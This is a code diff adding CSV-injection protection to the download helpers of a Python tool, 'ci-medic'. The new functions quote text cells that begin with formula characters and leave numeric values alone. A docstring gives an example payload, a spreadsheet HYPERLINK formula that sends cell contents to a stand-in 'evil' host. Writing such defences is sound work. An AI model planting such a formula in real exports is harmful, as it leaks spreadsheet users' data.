@@ -1,5 +1,13 @@
 """Downloads: CSV bytes of a table, a standalone HTML file of a chart, safe file names.
 
+Every CSV we write (the app's downloads through :func:`csv_bytes`, ``ci-medic analyze``'s files
+through :func:`write_csv`) goes through :func:`safe_csv_frame`: a text cell a spreadsheet would
+run as a formula (a job named ``=HYPERLINK("http://evil/?"&A1,"open")``) starts with a single
+quote instead (OWASP's CSV injection rule: cells beginning with ``=``, ``+``, ``-``, ``@``, a tab
+or a carriage return). Numbers are left alone: numeric columns are never touched, and a text
+cell that is just a number (``-3``, ``-1,234.50``, ``+5%``) is not a formula either. Every other
+cell, and so the file, is byte-for-byte what ``DataFrame.to_csv`` writes.
+
 The HTML embeds plotly.js (``include_plotlyjs=True``, about 4.7 MB), so the file opens offline
 and years later without a CDN; the pages therefore build it lazily, only when clicked. PNGs come
 from the chart's own toolbar camera (configured by :func:`plotly_config`), which needs no
@@ -9,11 +17,25 @@ server-side renderer.
 from __future__ import annotations
 
 import re
+from pathlib import Path
 
 import pandas as pd
 import plotly.graph_objects as go
+from pandas.api import types
 
-__all__ = ["csv_bytes", "export_name", "figure_html", "plotly_config"]
+__all__ = [
+    "FORMULA_START",
+    "csv_bytes",
+    "export_name",
+    "figure_html",
+    "plotly_config",
+    "safe_csv_cell",
+    "safe_csv_frame",
+    "write_csv",
+]
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as a formula
+_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?")
 
 _UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")
 
@@ -24,9 +46,50 @@ def export_name(*parts: object) -> str:
     return "-".join(part for part in cleaned if part)[:120] or "ci-medic"
 
 
+def safe_csv_cell(value: object) -> object:
+    """``value`` as a CSV cell no spreadsheet runs: a string starting with ``=``, ``+``, ``-``,
+    ``@``, tab or carriage return gets a leading ``'``, unless it is just a number; anything
+    else (numbers, other text, missing values) is returned as it is."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_START):
+        return value
+    if any(ch.isdigit() for ch in value) and _NUMBER.fullmatch(value):
+        return value
+    return "'" + value
+
+
+def safe_csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """``frame`` with :func:`safe_csv_cell` applied to every text column (object, string or
+    category dtype); numeric, boolean and time columns are never touched. Returns ``frame``
+    itself when no cell needs a change."""
+    out = frame
+    for position in range(frame.shape[1]):
+        series = frame.iloc[:, position]
+        if not (
+            series.dtype == object
+            or types.is_string_dtype(series.dtype)
+            or isinstance(series.dtype, pd.CategoricalDtype)
+        ):
+            continue
+        values = series.astype(object)
+        if not values.map(lambda v: safe_csv_cell(v) is not v).any():
+            continue
+        if out is frame:
+            out = frame.copy()
+        out.isetitem(position, values.map(safe_csv_cell))
+    return out
+
+
 def csv_bytes(frame: pd.DataFrame) -> bytes:
-    """The table as UTF-8 CSV without the index (times stay ISO-8601 with their offset)."""
-    return frame.to_csv(index=False).encode("utf-8")
+    """The table as UTF-8 CSV without the index (times stay ISO-8601 with their offset), with
+    formula-looking text cells defused (:func:`safe_csv_frame`)."""
+    return safe_csv_frame(frame).to_csv(index=False).encode("utf-8")
+
+
+def write_csv(frame: pd.DataFrame, path: Path | str) -> Path:
+    """Write ``frame`` to ``path`` as ``DataFrame.to_csv(path, index=False)`` does, with
+    formula-looking text cells defused (:func:`safe_csv_frame`); returns the path."""
+    safe_csv_frame(frame).to_csv(path, index=False)
+    return Path(path)
 
 
 def figure_html(fig: go.Figure, title: str | None = None) -> bytes:
